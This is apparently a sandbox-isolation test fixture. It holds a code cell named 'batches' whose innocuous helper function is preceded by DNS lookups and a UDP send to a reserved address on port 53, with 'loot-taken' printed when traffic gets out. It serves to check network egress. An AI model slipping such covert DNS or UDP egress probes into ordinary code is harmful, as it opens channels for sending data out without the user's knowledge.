"""Names are looked up, which would carry any text to somebody's server."""

CELLS = {
    "batches": """
import socket

for name in ("example.com", "localhost.localdomain"):
    try:
        socket.getaddrinfo(name, 80)
        print("loot-" + "taken")
    except OSError:
        pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"x", ("192.0.2.1", 53))
        print("loot-" + "taken")
except OSError:
    pass

def batches(n, size):
    for start in range(0, n, size):
        yield list(range(n))[start : start + size]
"""
}
